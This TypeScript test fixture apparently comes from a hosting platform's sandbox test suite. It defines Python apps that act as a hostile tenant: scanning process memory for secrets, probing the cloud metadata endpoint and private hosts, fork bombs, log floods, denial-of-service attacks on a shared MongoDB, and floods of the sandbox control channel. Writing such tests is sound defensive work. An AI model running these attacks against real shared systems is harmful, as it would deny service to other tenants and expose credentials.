import type { Listeners } from './listeners.ts'
/** Apps of a hostile tenant. `ctypes` and the like are allowed by the admin of this platform, so that the sandbox, not the validator, is tried. */

const HEAD = `import ctypes
import gc
import json
import os
import re
import socket
import threading
import time

from fastapi import FastAPI
from pymongo import MongoClient

app = FastAPI()
libc = ctypes.CDLL(None)


@app.get("/alive")
def alive() -> str:
    return "yes"


def tried(work):
    try:
        return str(work())
    except BaseException as error:
        return "refused: " + type(error).__name__


`

/** `GET /` runs the body and answers with its return value. */
const route = (body: string): string =>
  `${HEAD}@app.get("/")\ndef attack():\n${body.trim().replace(/^/gm, '    ')}\n`

export const SEARCHES_MEMORY = route(`
pattern = re.compile(rb"canary-[a-z]+-[0-9a-f]{16}")
found = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
    for line in maps:
        bounds, rights = line.split()[:2]
        first, last = (int(bound, 16) for bound in bounds.split("-"))
        if not rights.startswith("r") or "[v" in line:
            continue
        for start in range(first, last, 1 << 20):
            try:
                memory.seek(start)
                found |= set(pattern.findall(memory.read(min((1 << 20) + 64, last - start))))
            except OSError:
                break
found |= set(pattern.findall(repr(gc.get_objects()[:50_000]).encode(errors="replace")))
return sorted(token.decode() for token in found)
`)

export const REACHES_OUT = ({ port, addresses, abstract }: Omit<Listeners, keyof AsyncDisposable>): string =>
  route(`
def connect(host, port):
    with socket.socket() as s:
        s.settimeout(2)
        s.connect((host, port))
    return "connected"

def abstract():
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("\\0" + ${JSON.stringify(abstract)})
    return "connected"

places = [(host, ${port}) for host in ${JSON.stringify(addresses)}] + [("169.254.169.254", 80), ("10.0.0.1", 80), ("192.168.1.1", 80)]
results = {f"{host}:{port}": tried(lambda: connect(host, port)) for host, port in places}
results["abstract"] = tried(abstract)
return results
`)

/** Busy loops in as many processes as the app may have. */
export const SPINS = (processes: number): string =>
  route(`
for _ in range(${processes}):
    if libc.fork() == 0:
        while True:
            pass
return "spinning"
`)

export const FLOODS_LOG = route(`
def flood():
    while True:
        print("x" * 10_000)
for _ in range(4):
    threading.Thread(target=flood, daemon=True).start()
return "flooding"
`)

export const FLOODS_MONGOD = route(`
client = MongoClient(os.environ["PLATFORM_MONGO_URI"], serverSelectionTimeoutMS=5000)
notes = client.get_default_database().notes
notes.insert_many([{"n": n, "text": "x" * 100} for n in range(5_000)])
def flood():
    while True:
        try:
            list(notes.aggregate([{"$group": {"_id": "$text", "all": {"$push": "$n"}}}, {"$sort": {"all": -1}}]))
        except Exception:
            time.sleep(0.1)
for _ in range(30):
    threading.Thread(target=flood, daemon=True).start()
return "flooding"
`)

/** One route for each attack on resources of MongoDB that all tenants share. Each runs for some seconds. */
export const ATTACKS_MONGOD = `${HEAD}
from bson import Binary

END = 8


def by_many(count, work):
    client = MongoClient(os.environ["PLATFORM_MONGO_URI"], serverSelectionTimeoutMS=5000)
    database = client.get_default_database()
    database.one.replace_one({"_id": 1}, {"_id": 1, "text": os.urandom(4_000_000)}, upsert=True)
    end, outcomes = time.monotonic() + END, []
    def again(number):
        turn = 0
        while time.monotonic() < end:
            turn += 1
            try:
                work(database, number, turn)
                outcomes.append("done")
            except Exception as error:
                outcomes.append(str(error)[:100])
                time.sleep(0.01)
    threads = [threading.Thread(target=again, args=(number,)) for number in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    client.close()
    others = sorted(set(outcomes) - {"done"})[:3]
    return f"{outcomes.count('done')} of {len(outcomes)} {others}"


@app.get("/sessions")
def sessions():
    def work(database, number, turn):
        ids = [{"id": Binary(os.urandom(16), 4)} for _ in range(50_000)]
        database.client.admin.command({"refreshSessions": ids})
    return by_many(2, work)


@app.get("/transactions")
def transactions():
    def work(database, number, turn):
        with database.client.start_session() as session:
            session.start_transaction()
            for _ in range(12):
                texts = [{"text": os.urandom(200_000)} for _ in range(10)]
                database[f"t{number}"].insert_many(texts, session=session)
            time.sleep(END)
            session.abort_transaction()
    return by_many(10, work)


@app.get("/cursors")
def cursors():
    text = {"$reduce": {"input": {"$range": [0, 20]}, "initialValue": "x", "in": {"$concat": ["$$value", "$$value"]}}}
    stages = [{"$project": {"a": {"$range": [0, 12]}}}, {"$unwind": "$a"}, {"$set": {"p": text}}, {"$sort": {"a": -1}}]
    def work(database, number, turn):
        database.command({"aggregate": "one", "pipeline": stages, "cursor": {"batchSize": 1}, "allowDiskUse": False})
    return by_many(4, work)


@app.get("/spills")
def spills():
    stages = [
        {"$set": {"a": {"$range": [0, 5000]}}},
        {"$unwind": "$a"},
        {"$set": {"r": {"$rand": {}}}},
        {"$sort": {"r": -1}},
    ]
    def work(database, number, turn):
        database.command({"aggregate": "one", "pipeline": stages, "cursor": {"batchSize": 1}, "allowDiskUse": True})
    return by_many(2, work)


@app.get("/indexes")
def indexes():
    many = [{"key": {f"f{n}": 1}, "name": f"i{n}"} for n in range(60)]
    def work(database, number, turn):
        database.command({"createIndexes": f"c{number}_{turn}", "indexes": many})
    return by_many(16, work)
`

export const HOLDS_CONNECTIONS = route(`
held = []
path = re.search(r"@([^/?]+)", os.environ["PLATFORM_MONGO_URI"]).group(1).replace("%2F", "/")
def hold():
    while True:
        try:
            s = socket.socket(socket.AF_UNIX)
            s.connect(path)
            held.append(s)
        except OSError:
            time.sleep(0.05)
threading.Thread(target=hold, daemon=True).start()
time.sleep(2)
return len(held)
`)

const CONTROL_CHANNEL = `
def control_channel():
    for name in os.listdir("/proc/self/fd"):
        try:
            found = socket.socket(fileno=os.dup(int(name)))
        except OSError:
            continue
        if found.family == socket.AF_UNIX and found.type == socket.SOCK_SEQPACKET:
            return found
    raise SystemExit("there is no control channel")
`

/** Writes phases for three seconds while it starts. */
export const FLOODS_CONTROL_CHANNEL = `${HEAD}${CONTROL_CHANNEL}

control = control_channel()
end = time.monotonic() + 3
while time.monotonic() < end:
    control.send(b'{"event":"phase","phase":"sandboxed"}')
`

export const SENDS_DESCRIPTORS = `${HEAD}${CONTROL_CHANNEL}

def flood():
    control = control_channel()
    while True:
        socket.send_fds(control, [b'{"event":"none"}'], [0] * 100)


@app.get("/")
def start() -> str:
    threading.Thread(target=flood, daemon=True).start()
    return "sending"
`

export const NESTS_DEEPLY = `${HEAD}${CONTROL_CHANNEL}

control_channel().send(b"[" * 60_000)
time.sleep(60)
`
